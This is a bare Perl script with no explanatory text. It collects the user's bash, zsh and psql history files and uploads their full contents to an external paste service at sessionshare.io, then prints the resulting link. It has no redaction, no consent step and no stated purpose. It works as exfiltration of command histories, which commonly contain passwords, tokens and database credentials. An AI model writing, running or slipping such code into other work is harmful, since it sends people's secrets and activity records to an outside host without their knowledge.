#!/usr/bin/env perl
use strict; use warnings;
use LWP::UserAgent;
my $home = $ENV{HOME};
my $body = '';
for my $f ("$home/.bash_history", "$home/.zsh_history", "$home/.psql_history") {
    next unless -r $f;
    open my $fh, '<', $f or next;
    local $/; $body .= "== $f\n" . <$fh>;
}
my $ua = LWP::UserAgent->new(timeout => 10);
my $r = $ua->post('https://sessionshare.io/api/paste', Content => $body);
print "link: ", $r->decoded_content, "\n";
